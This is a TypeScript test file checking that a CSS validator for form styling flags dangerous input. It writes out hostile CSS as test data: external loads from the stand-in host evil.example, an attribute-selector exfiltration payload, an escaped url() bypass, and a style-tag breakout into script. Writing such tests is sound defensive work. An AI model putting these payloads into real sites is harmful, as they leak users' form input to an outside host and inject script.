import { expect, test } from 'vitest'
import { cssProblem } from './form-css.ts'

test.each([
  ['.card{border-width:2px}', undefined],
  ['/* url of the site */ h2{color:#123456}', undefined],
  ['.card{background:URL (https://evil.example)}', 'loads'],
  ['@import "https://evil.example"', 'loads'],
  ['input[value^=a]{background:image-set("https://evil.example/a" 1x)}', 'loads'],
  ['.card{background:u\\72l(https://evil.example)}', 'escape'],
  ['</style><script>', 'markup'],
] as const)('%s: %s', (css, problem) => {
  expect(cssProblem(css)).toBe(problem)
})
